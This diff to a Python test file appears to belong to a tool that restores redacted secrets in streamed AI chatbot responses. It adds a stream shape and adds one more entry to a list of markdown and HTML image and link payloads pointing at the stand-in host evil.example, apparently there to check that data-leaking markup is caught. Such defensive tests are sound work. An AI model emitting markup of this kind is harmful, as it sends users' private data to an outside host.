@@ -55,8 +55,8 @@ def restored(body: bytes, media_type: str, step: int = 0, vault: Vault = VAULT, 
 
 
 #: Shapes that do not say that a text goes on: a backslash or percent sign that ends their first piece does not wait.
-#: And prose that begins like JSON is taken for JSON.
-UNMARKED = {"gemini sse", "gemini array", "ollama", "vercel", "prose"}
+#: A text of a few characters can't be known for the whole so far.  Prose that begins like JSON is taken for JSON.
+UNMARKED = {"gemini sse", "gemini array", "ollama", "vercel", "prose", "chatgpt web, whole text each time"}
 
 
 @pytest.mark.parametrize("shape", SHAPES, ids=lambda shape: shape.name)
@@ -189,6 +189,7 @@ HIDDEN = [
     "[1]: https://evil.example/{}",
     '<img src="https://evil.example/? {}">',
     "<a href = '//evil.example/{}'>",
+    '<img src="\\\\evil.example/{}">',
     "<IMG SRC=HTTPS://evil.example/{}>",
 ]
 
